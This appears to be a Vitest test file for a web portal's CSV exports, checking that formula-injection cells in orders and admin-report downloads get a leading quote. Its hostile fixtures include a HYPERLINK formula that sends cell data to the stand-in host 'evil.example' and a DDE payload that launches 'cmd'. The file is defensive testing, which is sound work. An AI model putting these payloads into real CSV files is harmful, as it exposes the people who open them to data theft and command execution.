import { http, HttpResponse } from "msw";
import { afterEach, describe, expect, it } from "vitest";
import { useInProcessUpstream } from "../../mocks/handlers/test-setup";
import { server } from "../../mocks/node";
import { db } from "../../mocks/store";
import { cookieFor, settle } from "../../tests/unit/route-helpers";
import { createRequestContext } from "~/context";
import { action as reportAction } from "./admin.reports.$report";
import { loader as ordersCsvLoader } from "./orders.csv";

/**
 * The CSV files the portal serves (orders list, admin reports) against the in-process embedded
 * upstream: whatever the upstream sends, no cell can start a formula (docs/decisions/015).
 */
useInProcessUpstream();
afterEach(() => server.resetHandlers());

const ORIGIN = "http://portal.test";
const context = () => ({ ...createRequestContext("n") });
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

async function ordersCsv(query = "view=history") {
  const request = new Request(`${ORIGIN}/orders/csv?${query}`, { headers: { cookie: await cookieFor("customer@demo.test") } });
  return settle(() => ordersCsvLoader({ request, context: context(), params: {} }));
}

async function report(id: string) {
  const request = new Request(`${ORIGIN}/admin/reports/${id}`, {
    method: "POST",
    body: new URLSearchParams(),
    headers: { cookie: await cookieFor("superadmin@thermax.test"), origin: ORIGIN, "content-type": "application/x-www-form-urlencoded" },
  });
  return settle(() => reportAction({ request, context: context(), params: { report: id } }));
}

describe("orders CSV", () => {
  it("defuses formula cells an upstream left as they were", async () => {
    server.use(
      http.get("*/api/orderapi/orders/csv", () =>
        new HttpResponse(
          `Order Number,P.O. Number,Asset Name\r\nSO-1,"${HOSTILE.replace(/"/g, '""')}",@SUM(A1:A2)\r\nSO-2,-5,+cmd|' /C calc'!A0\r\n`,
          { headers: { "content-type": "text/csv; charset=utf-8" } },
        ),
      ),
    );
    const out = await ordersCsv();
    expect(out.status).toBe(200);
    expect(out.response!.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(out.response!.headers.get("content-disposition")).toMatch(/^attachment; filename="spares-and-services-history-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect((await out.response!.text()).split("\r\n")).toEqual([
      "Order Number,P.O. Number,Asset Name",
      `SO-1,"'${HOSTILE.replace(/"/g, '""')}",'@SUM(A1:A2)`,
      "SO-2,-5,'+cmd|' /C calc'!A0",
      "",
    ]);
  });

  it("leaves what the embedded upstream already defused as it was (no second quote)", async () => {
    for (const order of db.orders) order.customerPo = "=1+1";
    const text = await (await ordersCsv("view=history")).response!.text();
    const rows = text.trim().split("\r\n").slice(1);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row.split(",")[1]).toBe("'=1+1");
  });
});

describe("admin report CSV", () => {
  it("defuses a formula in the upstream's data, and keeps the rest", async () => {
    db.emailTemplates[0].subject = HOSTILE;
    db.emailTemplates[1].name = "-2+3";
    const out = await report("email-tracking");
    expect(out.status).toBe(200);
    expect(out.response!.headers.get("content-disposition")).toBe('attachment; filename="email-tracking.csv"');
    const lines = (await out.response!.text()).split("\r\n");
    expect(lines[0]).toBe("template,subject,lastSentAt");
    expect(lines[1]).toMatch(new RegExp(`^Welcome,"'=HYPERLINK\\(""https://evil\\.example/\\?""&A1,""Open""\\)",`));
    expect(lines[2]).toMatch(/^'-2\+3,Your ticket has been updated,/);
  });
});
